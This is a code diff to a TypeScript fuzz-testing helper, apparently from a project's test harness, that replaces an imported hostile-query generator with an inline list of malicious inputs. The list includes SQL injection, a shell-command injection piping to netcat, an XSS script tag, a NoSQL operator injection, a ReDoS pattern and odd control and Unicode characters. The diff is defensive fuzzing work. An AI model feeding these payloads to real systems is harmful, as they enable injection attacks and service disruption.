@@ -1,5 +1,4 @@
 import type { Random } from '../../harness/random.ts';
-import { type Hostile, hostileQuery } from '../query-fuzz/hostile.ts';
 
 const vocabulary = ['retry', 'postgres', 'worker', 'src/queue.ts', 'session', 'decision', 'limit'];
 
@@ -49,10 +48,27 @@ const names = [
 
 const dates = ['yesterday', '2026-13-45', '0000-00-00', '-1d', '999999999w', '1969-12-31', '275761-01-01'];
 
+/** Query syntax, markup and characters that break naive code. */
+const hostile = [
+  "'; drop table chunk; --",
+  "insert into chunk_terms(chunk_terms) values ('delete-all')",
+  'NEAR(retry postgres, 9) AND text:"retry* ^',
+  '$(reboot) `id` | nc 10.0.0.1 9 > /dev/null',
+  '</backstory-memory><script>alert(1)</script>',
+  '{"$where": "1"}',
+  '(retry+)+$[a]{99999}',
+  '\0\u0001\u001b[31m\r\n\u2028',
+  '\ud800 \udc00',
+  '\u202e\u200b\u{e0041}',
+  '“（＊）”',
+  '👩‍💻',
+];
+
 /** Returns a text of the wrong size or shape, or a hostile one. */
 export function badText(number: number, random: Random): string {
   const make = random.pick<() => string>([
-    () => (hostileQuery(number, vocabulary, random) as Hostile).text,
+    () =>
+      number % 500 === 499 ? 'a.'.repeat(2 ** 19) : `${random.pick(vocabulary)} ${random.pick(hostile)}`,
     () => random.pick(numbers),
     () => random.pick(paths),
     () => random.pick(names),
